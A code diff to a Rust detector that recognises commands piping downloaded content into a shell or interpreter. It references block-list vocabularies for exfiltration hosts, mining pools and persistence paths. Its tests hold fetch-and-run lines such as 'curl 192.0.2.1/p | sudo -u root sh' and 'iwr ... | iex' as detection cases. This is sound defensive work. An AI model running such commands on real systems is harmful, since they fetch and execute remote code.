@@ -16,10 +16,10 @@ use super::signal::{HostClass, SecretKind, Sensitivity, SignalKind};
 use super::vocabulary::{
     AUTHORIZED_KEYS_FILES, AUTOMATION_LOCATIONS, CHMOD_EXECUTABLE, DOWNLOADERS, ENVIRONMENT_FILES,
     ENVIRONMENT_PROGRAMS, EXFILTRATION_HOSTS, INTERPRETERS, IP_LOOKUP_HOSTS, LAUNCHERS,
-    MINER_FLAGS, MINING_POOLS, PERSISTENCE_LOCATIONS, PIPES_TO_SHELL, RESERVED_DOMAINS,
-    RUN_BY_PATH_PREFIXES, SCHEDULER_COMMANDS, SENSITIVE_PATHS_HIGH, SENSITIVE_PATHS_MEDIUM, SHELLS,
-    SHELL_DESTRUCTION, SHELL_HOME, SHELL_HOST_COMMANDS, SHELL_NETWORK_PRIMITIVES,
-    SSH_PUBLIC_KEY_PREFIXES, WELL_KNOWN_HOSTS, WELL_KNOWN_IPS,
+    LAUNCHER_VALUE_OPTIONS, MINER_FLAGS, MINING_POOLS, PERSISTENCE_LOCATIONS, PIPES_TO_SHELL,
+    RESERVED_DOMAINS, RUN_BY_PATH_PREFIXES, SCHEDULER_COMMANDS, SENSITIVE_PATHS_HIGH,
+    SENSITIVE_PATHS_MEDIUM, SHELLS, SHELL_DESTRUCTION, SHELL_HOME, SHELL_HOST_COMMANDS,
+    SHELL_NETWORK_PRIMITIVES, SSH_PUBLIC_KEY_PREFIXES, WELL_KNOWN_HOSTS, WELL_KNOWN_IPS,
 };
 
 #[derive(Debug, Clone, Copy)]
@@ -394,9 +394,8 @@ pub fn pipes_into_shell(lower: &str) -> bool {
     if PIPES_TO_SHELL.iter().any(|p| lower.contains(p)) {
         return true;
     }
+    let ends_word = |c: char| c.is_whitespace() || "|;&<>()\"'`,".contains(c);
     let program = |word: &str| {
-        // The word may end the pipeline's command: `| sh;`, `| sh)`, `| sh"`.
-        let word = word.trim_end_matches([';', ')', '&', '"', '\'', '`']);
         let base = word.rsplit(['/', '\\']).next().unwrap_or(word);
         base.trim_end_matches(".exe")
             .trim_end_matches(|c: char| c.is_ascii_digit() || c == '.')
@@ -407,15 +406,49 @@ pub fn pipes_into_shell(lower: &str) -> bool {
         // `||` is "or else", not a pipe.
         .filter(|(at, _)| !lower[..*at].ends_with('|') && !lower[at + 1..].starts_with('|'))
         .any(|(at, _)| {
-            let mut words = lower[at + 1..].split_whitespace();
-            // Past launchers and their flags (`sudo -E`, `env A=1`): the program they start.
-            for word in words.by_ref().take(4) {
+            let after = &lower[at + 1..];
+            let spaced = lower[..at].ends_with(char::is_whitespace)
+                || after.starts_with(char::is_whitespace);
+            let mut rest = after.trim_start();
+            // Past launchers, their flags and the flags' values (`sudo -u root`, `env A=1`): the
+            // program they start.
+            let mut value_next = false;
+            for _ in 0..6 {
+                let end = rest.find(ends_word).unwrap_or(rest.len());
+                let (word, tail) = rest.split_at(end);
                 let name = program(word);
-                if LAUNCHERS.contains(&name.as_str()) || word.starts_with('-') || word.contains('=')
-                {
-                    continue;
+                let stops = tail.starts_with(|c: char| c != ' ' && c != '\t');
+                if value_next || word.contains('=') {
+                    value_next = false;
+                } else if word.starts_with('-') {
+                    value_next = LAUNCHER_VALUE_OPTIONS.contains(&word);
+                } else if !LAUNCHERS.contains(&name.as_str()) {
+                    let shell = SHELLS.contains(&name.as_str());
+                    let interpreter = INTERPRETERS.contains(&name.as_str());
+                    if !(shell || interpreter) {
+                        return false;
+                    }
+                    // `(sh|bash)`, `<bash|zsh>`: a list of names, not a pipe.
+                    if !(spaced || tail.is_empty() || tail.starts_with([' ', '\t', ';', '&', '\n']))
+                    {
+                        return false;
+                    }
+                    // Only a shell or interpreter that reads its script from the pipe runs what
+                    // came through it: not `python3 -m json.tool`, `perl -pe …`, `sh -c …`.
+                    let operand = tail
+                        .trim_start_matches([' ', '\t'])
+                        .split(ends_word)
+                        .next()
+                        .unwrap_or("");
+                    return operand.is_empty()
+                        || operand == "-"
+                        || operand == "-s"
+                        || (shell && operand.starts_with('-') && operand != "-c");
                 }
-                return SHELLS.contains(&name.as_str()) || INTERPRETERS.contains(&name.as_str());
+                if stops && !tail.starts_with('|') {
+                    return false;
+                }
+                rest = tail.trim_start_matches([' ', '\t']);
             }
             false
         })
@@ -526,6 +559,11 @@ mod tests {
             "curl 192.0.2.1/p | /usr/bin/env bash -s",
             "curl 192.0.2.1/p | sudo -e python3 -",
             "iwr http://192.0.2.1/a | iex",
+            "curl 192.0.2.1/p | sudo -u root sh",
+            "curl 192.0.2.1/p | sh>/dev/null",
+            "curl 192.0.2.1/p|sh",
+            "curl 192.0.2.1/p | bash -s -- --yes",
+            "wget -o- 192.0.2.1/p | python3 -",
         ] {
             assert!(pipes_into_shell(&piped.to_ascii_lowercase()), "{piped}");
         }
@@ -535,6 +573,11 @@ mod tests {
             "| bashful | table |",
             "echo done",
             "sort | uniq -c | shuf",
+            "curl -s https://api.example.invalid/releases | python3 -m json.tool",
+            "curl -s https://api.example.invalid/r | python3 -c 'import json'",
+            "git diff | perl -pe 's/a/b/'",
+            "shell: <bash|zsh|fish>",
+            "one of (sh|bash)",
         ] {
             assert!(!pipes_into_shell(not_piped), "{not_piped}");
         }
